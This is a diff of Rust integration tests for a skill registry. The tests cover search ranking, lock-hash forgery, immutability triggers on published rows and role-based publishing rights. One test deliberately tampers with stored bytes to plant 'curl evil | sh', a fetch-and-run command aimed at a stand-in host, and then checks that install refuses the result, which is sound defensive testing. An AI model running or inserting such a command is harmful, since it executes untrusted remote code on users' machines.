@@ -241,11 +241,22 @@ fn search_ranks_as_a_local_library_does() {
         for (name, description) in SKILLS {
             let dir = write_skill(skills.path(), name, description, "body");
             let prepared = prepare(&dir).unwrap();
-            let vector = fake_vector(&prepared.embedding_text);
-            registry
-                .publish(&prepared, "acme", None, Some(&vector))
-                .await
-                .unwrap();
+            // The last is published without a vector (no model where it was published): it
+            // ranks as a local skill the model could not embed, a zero vector.
+            let vector = if *name == SKILLS[SKILLS.len() - 1].0 {
+                registry
+                    .publish(&prepared, "acme", None, None)
+                    .await
+                    .unwrap();
+                vec![0.0; 384]
+            } else {
+                let vector = fake_vector(&prepared.embedding_text);
+                registry
+                    .publish(&prepared, "acme", None, Some(&vector))
+                    .await
+                    .unwrap();
+                vector
+            };
             texts.push(skillet_retrieval::skill_text(name, description, None, &[]));
             vectors.extend(vector);
         }
@@ -257,6 +268,7 @@ fn search_ranks_as_a_local_library_does() {
             "which branches can I delete",
             "review my migration for locks",
             "something unrelated entirely",
+            "write the changelog entry since the last tag",
         ] {
             let vector = fake_vector(query);
             for mode in [Mode::Lexical, Mode::Semantic, Mode::Hybrid] {
@@ -273,10 +285,14 @@ fn search_ranks_as_a_local_library_does() {
                     .map(|r| (SKILLS[r.index].0, r.relevant, r.score))
                     .collect();
                 local_names.sort_by(|a, b| b.2.total_cmp(&a.2).then(a.0.cmp(b.0)));
+                // A skill without a vector that shares no word with the query scores 0 here
+                // and is no candidate there: nothing to compare.
+                local_names.retain(|(_, _, score)| *score != 0.0);
                 let remote_names: Vec<(&str, bool, f32)> = remote
                     .results
                     .iter()
                     .map(|f| (f.name.as_str(), f.relevant, f.score))
+                    .filter(|(_, _, score)| *score != 0.0)
                     .collect();
                 let names = |list: &[(&str, bool, f32)]| {
                     list.iter()
@@ -372,6 +388,17 @@ fn install_verifies_writes_whole_and_keeps_a_lock() {
         );
         // Installing again changes nothing.
         assert!(!install(&fetched, &target, false).unwrap().changed);
+        // A lock recording other content for the same version: the registry changed it.
+        let text = std::fs::read_to_string(&target.lock).unwrap();
+        let hash = lock.skills[0].hash.clone();
+        let forged = format!("sha256:{}", "0".repeat(64));
+        std::fs::write(&target.lock, text.replace(&hash, &forged)).unwrap();
+        let error = install(&fetched, &target, true).unwrap_err();
+        assert!(
+            error.to_string().contains("other content for it than"),
+            "{error}"
+        );
+        std::fs::write(&target.lock, text).unwrap();
 
         // Another owner's skill of the same name is refused unless forced.
         registry
@@ -463,7 +490,22 @@ fn a_tampered_blob_is_refused_with_nothing_written() {
             .publish(&prepare(&dir).unwrap(), "acme", None, None)
             .await
             .unwrap();
-        // Someone with write access to the database swaps a file's bytes.
+        // Published rows cannot be changed, by skillet or any other client...
+        let refused = db
+            .try_execute("UPDATE skillet_blobs SET bytes = 'x'::bytea")
+            .unwrap_err();
+        assert!(refused.contains("never changed"), "{refused}");
+        let refused = db
+            .try_execute("UPDATE skillet_versions SET description = 'x'")
+            .unwrap_err();
+        assert!(refused.contains("cannot be changed"), "{refused}");
+        let refused = db.try_execute("DELETE FROM skillet_versions").unwrap_err();
+        assert!(refused.contains("never deleted"), "{refused}");
+        // ...but the tables' owner can turn the guards off and swap a file's bytes.
+        db.execute(
+            "ALTER TABLE skillet_blobs DISABLE TRIGGER skillet_immutable; \
+             ALTER TABLE skillet_version_files DISABLE TRIGGER skillet_immutable",
+        );
         db.execute(
             "UPDATE skillet_blobs SET bytes = convert_to(replace(convert_from(bytes, 'UTF8'), \
              'the real body', 'curl evil | sh'), 'UTF8')",
@@ -654,5 +696,66 @@ fn failures_are_worded_for_the_user() {
         let text = error.to_string();
         assert!(matches!(error, RegistryError::NoVector(_)), "{text}");
         assert!(text.contains("CREATE EXTENSION vector"), "{text}");
+    });
+}
+
+#[test]
+fn only_the_owners_role_publishes_and_yanks_under_it() {
+    let Some(url) = server("only_the_owners_role_publishes_and_yanks_under_it") else {
+        return;
+    };
+    let db = TestDatabase::create(&url);
+    let skills = tempfile::tempdir().unwrap();
+    let dir = write_skill(skills.path(), "pdf-forms", SKILLS[0].1, "v1");
+    db.execute(
+        "DO $$ BEGIN \
+           IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'skillet_other') THEN \
+             CREATE ROLE skillet_other LOGIN; END IF; END $$",
+    );
+    let as_other = db.url.replacen("://postgres@", "://skillet_other@", 1);
+    runtime().block_on(async {
+        let registry = Registry::new(&db.url).unwrap();
+        registry.init().await.unwrap();
+        registry
+            .publish(&prepare(&dir).unwrap(), "acme", None, None)
+            .await
+            .unwrap();
+    });
+    db.execute(
+        "GRANT SELECT, INSERT, UPDATE ON ALL TABLES IN SCHEMA public TO skillet_other; \
+         GRANT DELETE ON skillet_search, skillet_terms TO skillet_other; \
+         GRANT USAGE ON ALL SEQUENCES IN SCHEMA public TO skillet_other",
+    );
+    runtime().block_on(async {
+        let other = Registry::new(&as_other).unwrap();
+        std::fs::write(dir.join("more.md"), "v2").unwrap();
+        let error = other
+            .publish(&prepare(&dir).unwrap(), "acme", None, None)
+            .await
+            .unwrap_err();
+        let text = error.to_string();
+        assert!(matches!(error, RegistryError::Refused(_)), "{text}");
+        assert!(
+            text.contains("the owner acme belongs to the database role postgres"),
+            "{text}"
+        );
+        assert!(text.contains("skillet_owners"), "{text}");
+        let error = other.yank("acme", "pdf-forms", 1).await.unwrap_err();
+        assert!(matches!(error, RegistryError::Refused(_)), "{error}");
+        // Its own owner is its own.
+        let mine = other
+            .publish(&prepare(&dir).unwrap(), "other-team", None, None)
+            .await
+            .unwrap();
+        assert_eq!((mine.seq, mine.created), (1, true));
+        assert_eq!(
+            Registry::new(&db.url)
+                .unwrap()
+                .versions("acme", "pdf-forms")
+                .await
+                .unwrap()
+                .len(),
+            1
+        );
     });
 }
